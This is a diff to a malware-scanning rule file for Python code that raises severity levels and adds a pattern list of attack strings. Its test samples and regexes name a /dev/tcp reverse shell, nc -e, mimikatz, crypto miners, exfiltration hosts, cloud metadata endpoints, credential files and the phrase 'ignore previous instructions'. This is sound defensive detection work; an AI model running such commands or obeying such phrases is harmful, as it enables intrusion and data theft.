@@ -10,7 +10,7 @@ from engine.analysis.python.declare import python_rule
 from engine.analysis.python.evaluate.evaluator import Evaluator
 from engine.analysis.python.evaluate.values import PythonValue
 from engine.analysis.python.rules import objects
-from engine.analysis.python.sinks.paths import is_sensitive
+from engine.analysis.python.sinks.paths import is_secret_store, is_sensitive
 from engine.models import Confidence, Language, Level
 
 SENSITIVE_NAME = python_rule(
@@ -19,7 +19,7 @@ SENSITIVE_NAME = python_rule(
     "fs_sensitive",
     Level.MEDIUM,
     attack="Locates accounts, keys, tokens and browser secrets.",
-    why="MEDIUM: this is only a string; access to the file is reported as HIGH.",
+    why="MEDIUM: this is only a string; HIGH for what stores passwords, keys or wallets.",
     fix="Remove it.",
     match=("x = '~/.ssh/id_rsa'", "find('/etc/shadow')"),
     not_match=("x = 'ssh'", "x = 'identity'"),
@@ -41,9 +41,12 @@ PAYLOAD = python_rule(
     "py-payload",
     "A string contains encoded code or machine code",
     "obfuscation",
-    Level.MEDIUM,
+    Level.HIGH,
     attack="Carries a payload that the reader does not notice.",
-    why="MEDIUM: nothing here shows that it runs; CRITICAL where it does.",
+    why=(
+        "HIGH: code is encoded to keep it from being read; CRITICAL where it runs; MEDIUM for bytes that "
+        "only look like it."
+    ),
     fix="Submit the decoded content.",
     match=(
         "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='",
@@ -56,9 +59,9 @@ ATTACK_TEXT = python_rule(
     "py-attack-text",
     "A string is typical of an attack",
     "malware",
-    Level.MEDIUM,
+    Level.HIGH,
     attack="Names a collection server, a tool or a command of an attack.",
-    why="MEDIUM: this is only a string; its use is reported separately.",
+    why="HIGH: honest programs do not name these; MEDIUM for services that honest programs use too.",
     fix="Remove it.",
     match=("x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'",),
     not_match=("x = 'ssh'",),
@@ -68,9 +71,9 @@ OBFUSCATOR = python_rule(
     "py-obfuscator",
     "The code looks like the output of an obfuscator",
     "obfuscation",
-    Level.MEDIUM,
+    Level.HIGH,
     attack="Makes the code unreadable.",
-    why="MEDIUM: people do not write such names.",
+    why="HIGH: people do not write such names.",
     fix="Submit the original code.",
     match=("__obfuscator__ = 'x'", "O0O0O0O0O = 1", "_____ = 1"),
     not_match=("O = 0", "_ = 1", "__ = 2"),
@@ -93,6 +96,12 @@ _ATTACK = re.compile(
     r"rm -rf /|:\(\)\s*\{|powershell.{0,20}-e(?:nc)?\b|"
     r"invoke-webrequest|downloadstring|169\.254\.169\.254|metadata\.google\.internal|"
     r"api\.telegram\.org/bot|ignore (?:all )?previous instructions",
+)
+_ALWAYS_ATTACK = re.compile(
+    r"/dev/tcp/|\bbash -i\b|\bnc (?:-\w+ )*-e\b|mkfifo /tmp|/bin/sh -i|meterpreter|mimikatz|"
+    r"stratum\+tcp|\bxmrig\b|oast\.(?:fun|pro|live|site|me)|burpcollaborator|interactsh|webhook\.site|requestbin|"
+    r"rm -rf /(?:\s|\*|$)|"
+    r":\(\)\s*\{|powershell.{0,20}-e(?:nc)?\b|invoke-webrequest|downloadstring|169\.254\.169\.254|metadata\.google\.internal"
 )
 _GADGET = re.compile(r"__(?:subclasses|globals|builtins|mro|reduce(?:_ex)?)__|__import__\s*\(")
 """What a text of a template, a formula or a query reaches for to leave it."""
@@ -125,11 +134,13 @@ def _check_words(evaluator: Evaluator, node: ast.Constant, text: str) -> None:
     if (len(text) >= _SHORTEST_TOKEN or "pypi-" in text) and _TOKEN.search(text):
         evaluator.report(HARDCODED, node, "Has the format of a real token")
     if _ATTACK.search(text.lower()):
-        evaluator.report(ATTACK_TEXT, node, f"`{text.strip()[:80]}`")
+        level = None if _ALWAYS_ATTACK.search(text.lower()) else Level.MEDIUM
+        evaluator.report(ATTACK_TEXT, node, f"`{text.strip()[:80]}`", severity=level)
     elif "_" in text and _GADGET.search(text):
         evaluator.report(objects.PROBE, node, f"Code for another interpreter: `{text.strip()[:80]}`")
     elif len(text) < 300 and is_sensitive(text):
-        evaluator.report(SENSITIVE_NAME, node, f"Names `{text.strip()[:80]}`")
+        level = Level.HIGH if is_secret_store(text) else None
+        evaluator.report(SENSITIVE_NAME, node, f"Names `{text.strip()[:80]}`", severity=level)
     if len(text) >= 24 and _BASE64.match(text):
         _check_encoded(evaluator, node, text)
     elif not text.isascii():
@@ -159,7 +170,8 @@ def _check_bytes(evaluator: Evaluator, node: ast.AST, data: bytes) -> None:
         or b"\x90\x90" in data
     )
     if binary * 4 > min(len(data), 400) and (telling or (binary * 2 > len(data) and len(set(data)) > 12)):
-        evaluator.report(PAYLOAD, node, f"{len(data):,} bytes that look like machine code")
+        level = None if telling else Level.MEDIUM
+        evaluator.report(PAYLOAD, node, f"{len(data):,} bytes that look like machine code", severity=level)
 
 
 def _check_encoded(evaluator: Evaluator, node: ast.Constant, text: str) -> None:
@@ -189,7 +201,8 @@ def check_numbers(evaluator: Evaluator, node: ast.List | ast.Tuple | ast.Set) ->
         return
     data = bytes(part for part in numbers[:4096] if isinstance(part, int) and 0 <= part < 256)
     if _CODE.search(data) or (len(numbers) >= 64 and len(set(data)) > 24 and _hexadecimal(evaluator, node)):
-        evaluator.report(PAYLOAD, node, f"{len(numbers):,} numbers that are bytes of code")
+        level = None if _CODE.search(data) else Level.MEDIUM
+        evaluator.report(PAYLOAD, node, f"{len(numbers):,} numbers that are bytes of code", severity=level)
 
 
 def _hexadecimal(evaluator: Evaluator, node: ast.AST) -> bool:
